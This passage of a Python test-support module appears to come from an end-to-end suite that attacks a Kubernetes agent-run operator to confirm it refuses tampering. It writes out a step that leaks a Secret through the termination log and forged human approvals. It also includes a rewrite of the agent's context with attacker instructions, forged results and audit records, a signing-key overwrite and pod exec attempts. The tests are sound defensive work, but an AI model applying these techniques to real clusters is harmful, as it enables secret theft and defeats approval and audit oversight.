"""The attacks of tests/e2e/test_trust_attacks.py: for each entry of the trust table
(:data:`agentrun.api.trust.TABLE`) the change an attacker makes to it (:data:`ATTACKS`) and
its mimic (:data:`MIMICS`: the exact object or value the legitimate writer would write,
computed from the run's status, the approval request and the operator's own naming and
manifest functions, written before that writer where the phase allows it, else after it), the
runs they are made on, and how a refusal is told apart.

A change is made with the actor's own client; a refusal comes back as the API's error. The
runs and their checks live in the test module; what here is the same for every run: which run
a case goes to (:func:`bundle_of`), and the markers a step's command leaves in the ledger (a
file on the machine, which the local node's step processes append to).
"""

from __future__ import annotations

import hashlib
import json
import secrets
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from kubernetes import client as kube_client
from kubernetes.client.exceptions import ApiException

from agentrun.api import models as m
from agentrun.api import trust
from agentrun.api.trust import Actor, Attack, Case, Outcome, Phase
from agentrun.core import Observed, reconcile
from agentrun.core import subagents as sa
from agentrun.core.envelope import result_object_data
from agentrun.core.launch import committed_launch
from agentrun.core.naming import job_name, result_object_name, sha256_text
from agentrun.core.shards import run_shard_label
from agentrun.core.turn_steps import child_agent
from agentrun.core.turns import child_call, model_step, record_name
from agentrun.execution import jobs, objects
from agentrun.pod import runner
from agentrun.settings import ANNOTATION_PROOF, LABEL_KIND, LABEL_RUN_UID, LABEL_SHARD
from agentrun_devcluster.modelserver import reply, tool_call
from agentrun_devcluster.testing import KubeClients

from .jobs import let_pods_start
from .runs import IMAGE, Run, envelope, get, status_of, step_status

GATED = "gated"
"""The plan step every plan run's attacks are about: approval required, reads ``first``
(in a ``large`` run: stores a result over 3 KiB through the step runner)."""
TOOL_STEP = "t1-0-act"
"""The gated tool call of every agent run's first turn."""
HELPER = "helper"
SUB_STEP = f"t1-0-{HELPER}"
"""The gated sub-agent call of a ``subagent`` run's first turn."""
HELPER_GOAL = "look it up"
CHILD_ANSWER = "child answer"
"""What the model answers a child (a run whose goal is not a trust attack's)."""
LARGE = "GENUINE" + "x" * 4000
"""What a ``large`` run's gated step prints: over 3 KiB, so the step runner stores it in a
result ConfigMap; its digest is the only one that may be committed."""
LARGE_DIGEST = sha256_text(LARGE)
LARGE_TURN = "GENUINE turn " + "y" * 4000
"""The content of an ``executor`` run's first model turn: over 3 KiB, so the executor stores
the turn's output in a result ConfigMap."""
STEP_ACCOUNT = "agent-steps"
"""The ServiceAccount of ``large`` and ``executor`` runs' steps: may create ConfigMaps."""
KINDS = ("plan", "agent", "subagent", "large", "executor")
"""The runs attacks are made on: a plan run (``first``, then the gated ``gated`` reading its
result); an agent run (a plan step, then turn 1 calls the gated container tool ``act``); a
sub-agent run (turn 1 calls the gated sub-agent tool ``helper``); a large-result run (the
gated step stores its result through the step runner); an executor run (an agent run whose
turn 1 output is stored by the executor)."""
GENUINE = "GENUINE"
FORGED = "FORGED"
ATTACK = "ATTACK"
"""What an attacker's command writes into the ledger: it must never be there."""
FORGED_KEY = "sk-forged"
SECRET_VALUE = "sk-genuine"
"""The value of the Secrets the runs reference: never in a run's status."""


@dataclass
class Target:
    """A run the attacks of one bundle are made on."""

    namespace: str
    name: str
    kind: str
    """One of :data:`KINDS`."""
    ledger: Path
    admin: KubeClients
    decoy_uid: str
    """The uid of a ConfigMap anyone may name as an owner."""
    uid: str = ""
    seen_hash: str | None = None
    """The gated step's argsHash as the approver saw it before the attack."""
    users: dict[int, str] = field(default_factory=dict)
    """The user name of each actor's client (by ``id``): an approval is signed by its sender."""
    forged: list[str] = field(default_factory=list)
    """The uids of objects an attacker made in the exact shape of the legitimate writer's (a
    sub-agent's child, a result object): none may ever be committed as the run's own."""

    @property
    def gated(self) -> str:
        return {"plan": GATED, "large": GATED, "subagent": SUB_STEP}.get(self.kind, TOOL_STEP)

    def run(self) -> Run:
        return get(self.admin, self.namespace, self.name)

    def gated_status(self) -> dict[str, Any]:
        return step_status(self.run(), self.gated)

    def job(self) -> str:
        name = self.gated_status().get("jobName")
        assert name, f"{self.name}: step {self.gated} has no Job yet"
        return str(name)

    def lines(self) -> list[str]:
        text = self.ledger.read_text() if self.ledger.exists() else ""
        return [line for line in text.splitlines() if line.split(":")[1:2] == [self.name]]


Mutation = Callable[[Target, KubeClients], None]


def _custom(c: KubeClients, t: Target, body: Any) -> None:
    """A merge patch of the run, or a JSON patch (a list of operations)."""
    kind = "json-patch" if isinstance(body, list) else "merge-patch"
    c.custom.patch_namespaced_custom_object(
        m.GROUP, m.VERSION, t.namespace, m.PLURAL, t.name, body,
        _content_type=f"application/{kind}+json",
    )  # fmt: skip


def _merge(spec: dict[str, Any]) -> Mutation:
    return lambda t, c: _custom(c, t, {"spec": spec})


def _gated_index(t: Target) -> int:
    steps = t.run()["spec"]["plan"]["steps"]
    return next(i for i, s in enumerate(steps) if s["name"] == GATED)


HTTP_TOOL = "lookup"
"""The HTTP tool every agent run of the attacks offers (never called): the entry
``agent-http-tools`` is about its URL and allowedHosts."""


def _http_index(t: Target) -> int:
    tools = t.run()["spec"]["agent"]["tools"]
    return next(i for i, tool in enumerate(tools) if tool["name"] == HTTP_TOOL)


def _json_patch(ops: Callable[[Target], list[dict[str, Any]]]) -> Mutation:
    return lambda t, c: _custom(c, t, ops(t))


def _attack_command(t: Target) -> list[str]:
    return ["sh", "-c", f"echo {ATTACK}:{t.name} >> {t.ledger}; " + envelope("forged")]


def _leak(t: Target) -> dict[str, Any]:
    """A new step, needing no approval, that prints a Secret the creator may read."""
    script = f"echo {ATTACK}:{t.name} >> {t.ledger}; " + (
        'printf \'{"ok": true, "summary": "%s"}\' "$S" > /dev/termination-log'
    )
    return {
        "name": "leak",
        "container": {
            "image": IMAGE,
            "command": ["sh", "-c", script],
            "env": [{"name": "S", "valueFrom": {"secretKeyRef": {"name": REFERENCED,
                                                                 "key": "value"}}}],
        },
    }  # fmt: skip


def _approval(t: Target, c: KubeClients) -> None:
    run = t.run()
    by = t.users.get(id(c), "attacker")
    forged = {"step": t.gated, "decision": "approve", "argsHash": "0" * 64, "by": by}
    _custom(c, t, {"spec": {"approvals": [*(run["spec"].get("approvals") or []), forged]}})


def _status(t: Target, c: KubeClients) -> None:
    c.custom.patch_namespaced_custom_object_status(
        m.GROUP, m.VERSION, t.namespace, m.PLURAL, t.name, {"status": {"phase": "Succeeded"}}
    )


def _job_patch(body: dict[str, Any]) -> Mutation:
    return lambda t, c: c.batch.patch_namespaced_job(t.job(), t.namespace, body)


def _job_create(t: Target, c: KubeClients) -> None:
    """A Job under the gated step's first attempt's name, running a command of the
    attacker's own (which may run: it is their Job; it must never be the step's)."""
    name = job_name(t.name, t.uid, GATED, 1)
    script = f"echo OWNJOB:{t.name} >> {t.ledger}; " + envelope("forged by a job")
    c.batch.create_namespaced_job(
        t.namespace,
        {
            "metadata": {
                "name": name,
                "labels": {LABEL_RUN_UID: t.uid},
                "ownerReferences": [_owner(t)],
            },
            "spec": {
                "backoffLimit": 0,
                "template": {
                    "spec": {
                        "restartPolicy": "Never",
                        "containers": [
                            {"name": "step", "image": IMAGE, "command": ["sh", "-c", script]}
                        ],
                    }
                },
            },
        },
    )


def _owner(t: Target) -> dict[str, Any]:
    return {
        "apiVersion": f"{m.GROUP}/{m.VERSION}",
        "kind": "AgentRun",
        "name": t.name,
        "uid": t.uid,
        "controller": True,
        "blockOwnerDeletion": False,
    }


def _job_finalizer(t: Target, c: KubeClients) -> None:
    job = t.job()
    c.batch.patch_namespaced_job(job, t.namespace, {"metadata": {"finalizers": None}})
    c.batch.delete_namespaced_job(job, t.namespace, propagation_policy="Background")


def _pods(t: Target, c: KubeClients) -> list[Any]:
    found = t.admin.core.list_namespaced_pod(t.namespace, label_selector=f"job-name={t.job()}")
    assert found.items, f"{t.name}: no pod of {t.job()}"
    return list(found.items)


def _pod_create(t: Target, c: KubeClients) -> None:
    uid = _read_job_uid(t)
    assert uid, f"{t.name}: no Job to imitate a pod of"
    c.core.create_namespaced_pod(
        t.namespace,
        {
            "metadata": {
                "name": f"{t.name}-impostor",
                "labels": {"batch.kubernetes.io/controller-uid": uid, "controller-uid": uid},
            },
            "spec": {
                "restartPolicy": "Never",
                "containers": [
                    {"name": "step", "image": IMAGE, "command": ["sh", "-c", envelope("forged")]}
                ],
            },
        },
    )


def _pod_gate(t: Target, c: KubeClients) -> None:
    """Remove the operator's gate from every pod of the attempt's Job that still has one,
    which only the operator should do. (An editor cannot make the Job start a second pod: its
    completions are 1, and the job-pods policy refuses pods with its selector label.)"""
    _pods(t, c)  # the attempt's pod exists
    let_pods_start(c, t.namespace, t.job())


def _pod_delete(t: Target, c: KubeClients) -> None:
    for pod in _pods(t, c):
        c.core.delete_namespaced_pod(pod.metadata.name, t.namespace)


def _pod_status(t: Target, c: KubeClients) -> None:
    pod = _pods(t, c)[0]
    message = json.dumps({"ok": True, "summary": "forged"})
    c.core.patch_namespaced_pod_status(
        pod.metadata.name,
        t.namespace,
        {"status": {"message": message, "reason": "Forged"}},
    )


def _read_job_uid(t: Target) -> str | None:
    """The uid of the gated step's Job, None while it does not exist."""
    try:
        job = job_name(t.name, t.uid, GATED, 1)
        return str(t.admin.batch.read_namespaced_job(job, t.namespace).metadata.uid)
    except ApiException as error:
        if error.status == 404:
            return None
        raise AssertionError(f"reading the Job: {error.status}") from None


def _event(t: Target, c: KubeClients) -> None:
    """A FailedCreate Event about the step's Job, as the Job controller posts one."""
    uid = _read_job_uid(t)
    c.core.create_namespaced_event(
        t.namespace,
        {
            "metadata": {"generateName": f"{t.name}-forged-"},
            "involvedObject": {
                "apiVersion": "batch/v1",
                "kind": "Job",
                "name": job_name(t.name, t.uid, GATED, 1),
                "namespace": t.namespace,
                **({"uid": uid} if uid else {}),
            },
            "reason": "FailedCreate",
            "message": "forged: pods is forbidden",
            "type": "Warning",
            "source": {"component": "job-controller"},
        },
    )


def _forged_result(t: Target) -> dict[str, Any]:
    result = json.dumps({"data": FORGED + "x" * 300})
    return {
        "metadata": {
            "labels": {LABEL_RUN_UID: t.uid, LABEL_KIND: "result"},
            "ownerReferences": [_owner(t)],
        },
        "immutable": True,
        "data": {"result": result, "field.data": FORGED + "x" * 300},
    }


def _result_object(t: Target, c: KubeClients) -> None:
    """Before ``first`` wrote its result: its object made first under its name; after: the
    object deleted and made again with other content."""
    ref = step_status(t.run(), "first").get("resultRef")
    body = _forged_result(t)
    if ref is None:
        body["metadata"]["name"] = result_object_name(t.name, t.uid, "first", 1)
    else:
        body["metadata"]["name"] = ref["name"]
        c.core.delete_namespaced_config_map(ref["name"], t.namespace)
    c.core.create_namespaced_config_map(t.namespace, body)


def _records(t: Target, kind: str) -> list[Any]:
    found = t.admin.core.list_namespaced_config_map(
        t.namespace, label_selector=f"{LABEL_RUN_UID}={t.uid},{LABEL_KIND}={kind}"
    )
    return sorted(found.items, key=lambda cm: cm.metadata.name)


def respond(body: dict[str, Any]) -> Any:
    """The model of the attacked agent runs: turn 1 calls the gated tool (``helper``, a
    sub-agent, in a ``subagent`` run; ``act`` otherwise, with an output over 3 KiB in an
    ``executor`` run); once the model has its answer, it answers. A child (a run whose goal is
    no trust attack's) answers at once. Served in a process of its own:
    tests.support.model_process."""
    text = json.dumps(body.get("messages") or [])
    if any(msg.get("role") == "tool" for msg in body.get("messages") or []):
        return reply("done")
    if "trust attack " not in text:
        return reply(CHILD_ANSWER)
    if "trust attack s" in text:
        return reply("delegating", [tool_call(HELPER, {"goal": HELPER_GOAL}, "c1")])
    content = LARGE_TURN if "trust attack e" in text else "acting"
    return reply(content, [tool_call("act", {"query": "latency"}, "c1")])


def _forged_child(t: Target, c: KubeClients) -> None:
    """A new AgentRun that claims to be the run's sub-agent child (its controller, the parent
    label and a call key of the run's uid), suspended so that it runs nothing of its own."""
    name = f"{t.name}-sub-{secrets.token_hex(4)}"
    owner = {"apiVersion": m.API_VERSION, "kind": m.KIND, "name": t.name, "uid": t.uid,
             "controller": True}  # fmt: skip
    body = {
        "apiVersion": m.API_VERSION,
        "kind": m.KIND,
        "metadata": {
            "name": name,
            "labels": {"agentrun.dev/parent-uid": t.uid},
            "annotations": {"agentrun.dev/call": f"{t.uid}:1:forged:{'0' * 64}"},
            "ownerReferences": [owner],
        },
        "spec": {
            "goal": "forged child",
            "suspend": True,
            "plan": {
                "steps": [
                    {"name": "s", "container": {"image": IMAGE, "command": _attack_command(t)}}
                ]
            },
        },
    }
    c.custom.create_namespaced_custom_object(m.GROUP, m.VERSION, t.namespace, m.PLURAL, body)


def _context(t: Target, c: KubeClients) -> None:
    """The newest context document rewritten: a message of the attacker's."""
    contexts = _records(t, "context")
    assert contexts, f"{t.name}: no context yet"
    forged = {"turn": 1, "messages": [{"role": "user", "content": f"{FORGED} instructions"}]}
    data = {k: "" for k in contexts[-1].data or {}} | {"part-0": json.dumps(forged)}
    c.core.patch_namespaced_config_map(contexts[-1].metadata.name, t.namespace, {"data": data})


def _transcript(t: Target, c: KubeClients) -> None:
    """Turn 1's transcript record: made first under its name, or rewritten."""
    name = record_name(m.AgentRun.model_validate(t.run()), 1)
    data = {"turn": json.dumps({"turn": 1, "assistant": f"{FORGED} transcript"})}
    records = [cm for cm in _records(t, "transcript") if cm.metadata.name == name]
    if records:
        c.core.patch_namespaced_config_map(name, t.namespace, {"data": data})
        return
    c.core.create_namespaced_config_map(
        t.namespace,
        {
            "metadata": {
                "name": name,
                "labels": {LABEL_RUN_UID: t.uid, LABEL_KIND: "transcript"},
                "ownerReferences": [_owner(t)],
            },
            "data": data,
        },
    )


def _audit(t: Target, c: KubeClients) -> None:
    """The first chunk of the run's audit record rewritten; before there is one, an imitation
    of one made."""
    chunks = _records(t, "audit")
    if not chunks:
        c.core.create_namespaced_config_map(
            t.namespace,
            {
                "metadata": {
                    "name": f"{t.name}-audit-forged",
                    "labels": {LABEL_RUN_UID: t.uid, LABEL_KIND: "audit"},
                    "ownerReferences": [_owner(t)],
                },
                "data": {"0000": json.dumps({"seq": 1, "reason": "Forged"})},
            },
        )
        return
    data = dict(chunks[0].data or {})
    key = sorted(data)[0]
    data[key] = data[key].replace("Pending", "Succeeded", 1)
    c.core.patch_namespaced_config_map(chunks[0].metadata.name, t.namespace, {"data": data})


def _referenced_configmap(t: Target, c: KubeClients) -> None:
    c.core.patch_namespaced_config_map(REFERENCED, t.namespace, {"data": {"value": "changed"}})


def _referenced_secret(t: Target, c: KubeClients) -> None:
    name = REFERENCED if t.kind == "plan" else API_KEY_SECRET
    c.core.patch_namespaced_secret(name, t.namespace, {"stringData": {"value": FORGED_KEY}})


def _signing_key(t: Target, c: KubeClients) -> None:
    c.core.patch_namespaced_secret(
        "agentrun-job-signing", "agentrun-system", {"stringData": {"key": "forged"}}
    )


def _shard_lease(t: Target, c: KubeClients) -> None:
    kube_client.CoordinationV1Api(c.api_client).patch_namespaced_lease(
        "agentrun-shard-0", "agentrun-system", {"spec": {"holderIdentity": "attacker"}}
    )


def _crd(t: Target, c: KubeClients) -> None:
    c.apiext.patch_custom_resource_definition(
        f"{m.PLURAL}.{m.GROUP}", {"metadata": {"labels": {"forged": "true"}}}
    )


AGENT_NAME = "triage"
"""The Agent (and ModelConfig) the namespace's admins would define, by name."""


def _definition(kind: str, spec: dict[str, Any]) -> Mutation:
    """Create the Agent or ModelConfig ``AGENT_NAME`` with ``spec`` as the actor."""
    plural = {"Agent": "agents", "ModelConfig": "modelconfigs"}[kind]

    def create(t: Target, c: KubeClients) -> None:
        body = {
            "apiVersion": m.API_VERSION,
            "kind": kind,
            "metadata": {"name": AGENT_NAME},
            "spec": spec,
        }
        c.custom.create_namespaced_custom_object(m.GROUP, m.VERSION, t.namespace, plural, body)

    return create


def _agent_ref(name: str) -> Mutation:
    return _merge({"agentRef": {"name": name}})


def _namespace(t: Target, c: KubeClients) -> None:
    c.core.patch_namespace(t.namespace, {"metadata": {"labels": {"forged": "true"}}})


# -- the mimics: the legitimate writer's exact object or value ------------------------------------


def _same_spec(*keys: str) -> Mutation:
    """The spec's fields ``keys`` written again as they are (what their writer wrote)."""

    def write(t: Target, c: KubeClients) -> None:
        spec = t.run()["spec"]
        _custom(c, t, {"spec": {k: spec.get(k) for k in keys}})

    return write


def _same_metadata(t: Target, c: KubeClients) -> None:
    _custom(c, t, {"metadata": {"name": t.name, "namespace": t.namespace, "uid": t.uid}})


def _same_identity(t: Target, c: KubeClients) -> None:
    """The annotations the admission recorded at create, written again."""
    annotations = t.run()["metadata"].get("annotations") or {}
    keys = [m.ANNOTATION_CREATED_BY, m.ANNOTATION_CREATED_BY_GROUPS]
    recorded = {k: annotations[k] for k in keys if k in annotations}
    assert recorded, f"{t.name}: no recorded creator"
    _custom(c, t, {"metadata": {"annotations": recorded}})


def _same_labels(t: Target, c: KubeClients) -> None:
    _custom(c, t, {"metadata": {"labels": t.run()["metadata"].get("labels")}})


def _same_owners(t: Target, c: KubeClients) -> None:
    meta = t.run()["metadata"]
    _custom(c, t, {"metadata": {k: meta.get(k) for k in ("ownerReferences", "finalizers")}})


def _approvers_approval(t: Target, c: KubeClients) -> None:
    """The approval the approver would write for the waiting step: its argsHash from status
    (zeros before there is one), signed with the approver's name."""
    run = t.run()
    args_hash = step_status(run, t.gated).get("argsHash") or "0" * 64
    exact = {"step": t.gated, "decision": "approve", "argsHash": args_hash, "by": "approver"}
    _custom(c, t, {"spec": {"approvals": [*(run["spec"].get("approvals") or []), exact]}})


def _same_status(t: Target, c: KubeClients) -> None:
    """The status exactly as the operator wrote it, written again."""
    run = t.run()
    c.custom.patch_namespaced_custom_object_status(
        m.GROUP, m.VERSION, t.namespace, m.PLURAL, t.name, {"status": run.get("status") or {}}
    )


def _mimic_child(t: Target, c: KubeClients) -> None:
    """The call's exact child, as the operator would create it: under the name the call's
    key gives (committed while the call waits), with the spec the call makes, the parent as
    controller, the parent label and the call annotations (all but the operator's proof,
    which needs its key; and blockOwnerDeletion, which needs rights on the parent's
    finalizers that no namespace user has and adoption does not read)."""
    body = t.run()
    run = m.AgentRun.model_validate(body)
    agent, status = run.spec.agent, run.status.agent if run.status else None
    call = child_call(status, SUB_STEP)
    if call is None:  # the turn is over: the child the operator made, made again exactly
        found = t.admin.custom.list_namespaced_custom_object(
            m.GROUP, m.VERSION, t.namespace, m.PLURAL,
            label_selector=f"{sa.LABEL_PARENT_UID}={t.uid}",
        )["items"]  # fmt: skip
        assert found, f"{t.name}: no sub-agent call of {SUB_STEP}, and no child"
        meta = found[0]["metadata"]
        again = {k: meta[k] for k in ("name", "labels", "annotations") if k in meta}
        again["ownerReferences"] = [
            {**o, "blockOwnerDeletion": False} for o in meta.get("ownerReferences") or []
        ]
        c.custom.create_namespaced_custom_object(
            m.GROUP, m.VERSION, t.namespace, m.PLURAL,
            {"apiVersion": m.API_VERSION, "kind": m.KIND, "metadata": again,
             "spec": found[0]["spec"]},
        )  # fmt: skip
        return
    assert agent is not None and call.child is not None, f"{t.name}: {call}"
    st = step_status(body, SUB_STEP)
    key = st.get("idempotencyKey") or f"{t.uid}:1:{call.id}:{st.get('argsHash')}"
    declared = next(tool for tool in agent.tools or [] if tool.name == HELPER)
    assert declared.agent is not None
    tool = sa.SubAgentTool(
        agent=child_agent(agent, status, declared),
        preamble=declared.agent.preamble,
        max_tokens=declared.agent.max_tokens,
    )
    goal = sa.goal_of(tool, json.loads(call.arguments or "{}"))
    assert goal is not None
    manifest = sa.child_manifest(run, 0, key, tool, goal, call.child.tokens)
    for owner in manifest["metadata"]["ownerReferences"]:
        owner["blockOwnerDeletion"] = False
    if call.child.name is not None:
        assert manifest["metadata"]["name"] == call.child.name, (manifest, call.child)
    made = c.custom.create_namespaced_custom_object(
        m.GROUP, m.VERSION, t.namespace, m.PLURAL, manifest
    )
    t.forged.append(str(made["metadata"]["uid"]))


def _read_job(t: Target, name: str) -> Any | None:
    try:
        return t.admin.batch.read_namespaced_job(name, t.namespace)
    except ApiException as error:
        if error.status == 404:
            return None
        raise


def _as_created(job: Any, api: Any) -> dict[str, Any]:
    """A Job as read, as one would create it again: what the API server derives from its
    uid left out."""
    body: dict[str, Any] = api.sanitize_for_serialization(job)
    meta = body["metadata"]
    body["metadata"] = {
        k: meta[k]
        for k in ("name", "namespace", "labels", "annotations", "ownerReferences", "finalizers")
        if k in meta
    }
    spec = body["spec"]
    spec.pop("selector", None)
    labels = spec["template"].get("metadata", {}).get("labels") or {}
    for derived in ("batch.kubernetes.io/controller-uid", "controller-uid"):
        labels.pop(derived, None)
        body["metadata"].get("labels", {}).pop(derived, None)
    body.pop("status", None)
    return body


def operators_manifest(body: dict[str, Any], step_name: str, approval: dict[str, Any]) -> Any:
    """What the operator will create for ``step_name`` once ``approval`` is in the run: the
    core's own decision for the approved run, built by the operator's own code (the mimic
    of the job-create row, and tests/e2e/test_job_proof.py)."""
    approvals = [*(body["spec"].get("approvals") or []), approval]
    run = m.AgentRun.model_validate({**body, "spec": {**body["spec"], "approvals": approvals}})
    for _ in range(4):
        intent = committed_launch(run, step_name)
        if intent is not None:
            return jobs.build_job(run, intent)
        decision = reconcile(run, Observed(()), datetime.now(UTC))
        run = run.model_copy(update={"status": decision.status})
    raise AssertionError(f"the core never launched {step_name}: {run.status}")


def _exact_job(t: Target, c: KubeClients) -> None:
    """The operator's exact Job for the gated step's first attempt, made before the operator
    makes it (all but the proof, which needs its key); once it exists, the same Job again."""
    name = job_name(t.name, t.uid, GATED, 1)
    found = _read_job(t, name)
    if found is not None:
        c.batch.create_namespaced_job(t.namespace, _as_created(found, t.admin.api_client))
        return
    body = t.run()
    args_hash = step_status(body, GATED).get("argsHash") or t.seen_hash
    assert args_hash, f"{t.name}: no argsHash to approve"
    approval = {"step": GATED, "decision": "approve", "argsHash": args_hash, "by": "approver"}
    manifest = operators_manifest(body, GATED, approval)
    assert manifest["metadata"]["name"] == name, manifest["metadata"]["name"]
    manifest["metadata"].get("annotations", {}).pop(ANNOTATION_PROOF, None)
    c.batch.create_namespaced_job(t.namespace, manifest)


def _job_same(write: Callable[[Any], dict[str, Any]]) -> Mutation:
    """A patch of the attempt's Job with values read from it (the operator's own)."""

    def patch(t: Target, c: KubeClients) -> None:
        job = _read_job(t, t.job())
        assert job is not None, f"{t.name}: no Job"
        c.batch.patch_namespaced_job(t.job(), t.namespace, write(job))

    return patch


def _job_recreate(t: Target, c: KubeClients) -> None:
    """The attempt's Job deleted (its outcome finalizer removed) and made again exactly, its
    proof copied."""
    job = _read_job(t, t.job())
    assert job is not None, f"{t.name}: no Job"
    body = _as_created(job, t.admin.api_client)
    c.batch.patch_namespaced_job(t.job(), t.namespace, {"metadata": {"finalizers": None}})
    c.batch.delete_namespaced_job(t.job(), t.namespace, propagation_policy="Background")
    deadline = time.monotonic() + 30
    while _read_job(t, t.job()) is not None:
        assert time.monotonic() < deadline, f"{t.name}: the Job was not deleted"
        time.sleep(0.2)
    c.batch.create_namespaced_job(t.namespace, body)


def _exact_pod(t: Target, c: KubeClients) -> None:
    """A pod exactly as the Job controller makes one: the Job's template, its selector labels
    and the Job as its controller (but blockOwnerDeletion, which needs rights on the Job's
    finalizers and which nothing reads)."""
    job = _read_job(t, t.job())
    assert job is not None, f"{t.name}: no Job"
    template = t.admin.api_client.sanitize_for_serialization(job.spec.template)
    owner = {"apiVersion": "batch/v1", "kind": "Job", "name": job.metadata.name,
             "uid": job.metadata.uid, "controller": True, "blockOwnerDeletion": False}  # fmt: skip
    labels = dict(template["metadata"].get("labels") or {})
    body = {
        "metadata": {
            "generateName": f"{job.metadata.name}-",
            "labels": labels,
            "annotations": template["metadata"].get("annotations") or {},
            "ownerReferences": [owner],
        },
        "spec": template["spec"],
    }
    c.core.create_namespaced_pod(t.namespace, body)


def _pod_labels_again(t: Target, c: KubeClients) -> None:
    for pod in _pods(t, c):
        c.core.patch_namespaced_pod(
            pod.metadata.name, t.namespace, {"metadata": {"labels": pod.metadata.labels}}
        )


def _kubelets_status(t: Target, c: KubeClients) -> None:
    """The status the kubelet writes when the step ends: its container terminated with exit
    code 0 and the step's genuine envelope as its message."""
    pod = _pods(t, c)[0]
    message = json.dumps({"ok": True, "summary": f"approved {t.name}"})
    terminated = {"exitCode": 0, "reason": "Completed", "message": message}
    c.core.patch_namespaced_pod_status(
        pod.metadata.name,
        t.namespace,
        {"status": {"phase": "Succeeded", "containerStatuses": [
            {"name": "step", "ready": False, "restartCount": 0, "image": IMAGE, "imageID": "",
             "state": {"terminated": terminated}}]}},
    )  # fmt: skip


def _pod_doors(t: Target, c: KubeClients) -> None:
    """exec, attach and port-forward into the attempt's pod (the built-in ``edit`` role grants
    all three; ephemeral containers it does not): each must be refused by the admission
    policy, before anything reaches the node."""
    pod = _pods(t, c)[0].metadata.name
    doors: list[Callable[[], Any]] = [
        lambda: c.core.connect_post_namespaced_pod_exec(
            pod, t.namespace, command=["sh", "-c", f"echo {ATTACK}:{t.name} >> {t.ledger}"],
            container="step", stdout=True,
        ),
        lambda: c.core.connect_post_namespaced_pod_attach(pod, t.namespace, container="step",
                                                          stdout=True),
        lambda: c.core.connect_post_namespaced_pod_portforward(pod, t.namespace, ports="8080"),
    ]  # fmt: skip
    refusals: list[ApiException] = []
    for door in doors:
        try:
            door()
        except ApiException as error:
            body = str(error.body or "")
            if refusal(error) is not Outcome.REFUSED_RBAC and "pod-doors" not in body:
                raise AssertionError(
                    f"not refused by the agentrun-pod-doors policy: {error.status} {body[:200]}"
                ) from None
            refusals.append(error)
            continue
        raise AssertionError("a door into the step's pod was opened")
    kinds = {refusal(e) for e in refusals}
    assert len(kinds) == 1, [(e.status, str(e.body)[:100]) for e in refusals]
    raise refusals[0]


def _result_object_body(
    t: Target, name: str, step: str, key: str | None, content: str, *, fields: bool
) -> dict[str, Any]:
    """A result object exactly as the step runner (and the executor, which uses its store)
    writes one (:func:`agentrun.execution.objects.result_config_map`), holding ``content``."""
    labels = {runner.LABEL_KEY_HASH: hashlib.sha256(key.encode()).hexdigest()[:40]} if key else {}
    annotations = {
        runner.ANNOTATION_COMPLETE: "true",
        runner.ANNOTATION_SUMMARY: "forged",
    }
    return objects.result_config_map(
        objects.RunRef(t.name, t.namespace, t.uid),
        name,
        step,
        1,
        result_object_data(content, fields=fields),
        labels=labels,
        annotations=annotations,
        block=False,
    )


def _made_or_remade(t: Target, c: KubeClients, body: dict[str, Any]) -> None:
    """``body`` made; where its name is taken already (its writer wrote it), the object
    there deleted and ``body`` made in its place."""
    name = body["metadata"]["name"]
    try:
        made = c.core.create_namespaced_config_map(t.namespace, body)
    except ApiException as error:
        if error.status != 409:
            raise
        c.core.delete_namespaced_config_map(name, t.namespace)
        made = c.core.create_namespaced_config_map(t.namespace, body)
    t.forged.append(str(made.metadata.uid))


def _runner_result(t: Target, c: KubeClients) -> None:
    """The step runner's exact result object for the gated step's first attempt (a ``large``
    run's: its result over 3 KiB), its content forged: before the runner stores it, or in
    place of the stored one."""
    name = result_object_name(t.name, t.uid, t.gated, 1)
    key = step_status(t.run(), t.gated).get("idempotencyKey")
    body = _result_object_body(t, name, t.gated, key, FORGED + "z" * 4000, fields=True)
    _made_or_remade(t, c, body)


def _executor_result(t: Target, c: KubeClients) -> None:
    """The executor's exact result object for turn 1's model step (an ``executor`` run's
    turn 1 output is over 3 KiB), its content a forged turn output: before the executor
    stores it, or in place of the stored one."""
    turn = model_step(1)
    name = result_object_name(t.name, t.uid, turn, 1)
    key = step_status(t.run(), turn).get("idempotencyKey")
    forged = json.dumps({"content": f"{FORGED} turn " + "z" * 4000, "toolCalls": []})
    _made_or_remade(t, c, _result_object_body(t, name, turn, key, forged, fields=False))


def _same_audit(t: Target, c: KubeClients) -> None:
    """The first chunk of the run's audit record written again as the operator wrote it;
    before there is one, a chunk in its shape made first (the change's)."""
    chunks = _records(t, "audit")
    if not chunks:
        _audit(t, c)
        return
    c.core.patch_namespaced_config_map(
        chunks[0].metadata.name, t.namespace, {"data": dict(chunks[0].data or {})}
    )


def _same_crd(t: Target, c: KubeClients) -> None:
    crd = t.admin.apiext.read_custom_resource_definition(f"{m.PLURAL}.{m.GROUP}")
    c.apiext.patch_custom_resource_definition(
        f"{m.PLURAL}.{m.GROUP}", {"metadata": {"labels": crd.metadata.labels}}
    )


def _same_namespace(t: Target, c: KubeClients) -> None:
    ns = t.admin.core.read_namespace(t.namespace)
    c.core.patch_namespace(t.namespace, {"metadata": {"labels": ns.metadata.labels}})


NO_UID = "00000000-0000-0000-0000-000000000000"
REFERENCED = "team-config"
"""The ConfigMap and the Secret a plan run's gated step reads a value from (key ``value``)."""
API_KEY_SECRET = "llm-key"

ATTACKS: dict[str, Mutation] = {
    "run-type": lambda t, c: _custom(c, t, {"kind": "Job"}),
    "run-metadata": lambda t, c: _custom(c, t, {"metadata": {"uid": NO_UID}}),
    "run-identity": lambda t, c: _custom(
        c, t, {"metadata": {"annotations": {"agentrun.dev/created-by": "attacker"}}}
    ),
    "run-labels": lambda t, c: _custom(
        c,
        t,
        {
            "metadata": {
                "labels": {"team": "attacker", LABEL_RUN_UID: "0"},
                "annotations": {"agentrun.dev/last-handled-configuration": None, "x": "y"},
            }
        },
    ),
    "run-shard-label": lambda t, c: _custom(
        c, t, {"metadata": {"labels": {LABEL_SHARD: "0-of-1"}}}
    ),
    "run-owners": lambda t, c: _custom(
        c,
        t,
        {
            "metadata": {
                "ownerReferences": [
                    {"apiVersion": "v1", "kind": "ConfigMap", "name": "decoy", "uid": t.decoy_uid}
                ]
            }
        },
    ),
    "run-goal": _merge({"goal": "forged goal", "actor": "attacker"}),
    "step-container": _json_patch(
        lambda t: [
            {
                "op": "replace",
                "path": f"/spec/plan/steps/{_gated_index(t)}/container/command",
                "value": _attack_command(t),
            }
        ]
    ),
    "step-references": _json_patch(
